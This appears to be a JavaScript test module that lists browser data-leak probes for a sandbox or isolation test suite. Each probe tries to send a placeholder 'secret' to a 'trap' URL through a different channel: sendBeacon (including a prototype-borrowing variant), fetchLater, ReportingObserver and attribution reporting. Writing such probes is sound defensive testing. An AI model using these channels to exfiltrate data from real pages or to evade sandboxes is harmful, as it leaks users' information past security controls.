// Leaves a message with a beacon or one of the reporting interfaces.
import { probes } from './lib/attack.js';

export default probes(({ trap }) => ({
  beacon: () => navigator.sendBeacon(trap, 'secret'),
  beaconOfPrototype: () => WorkerNavigator.prototype.sendBeacon.call(navigator, trap, 'secret'),
  later: () => fetchLater(trap, { method: 'POST', body: 'secret' }),
  reporting: () => new ReportingObserver(() => {}).observe(),
  attribution: () => navigator.attributionReporting.registerSource(trap),
}));
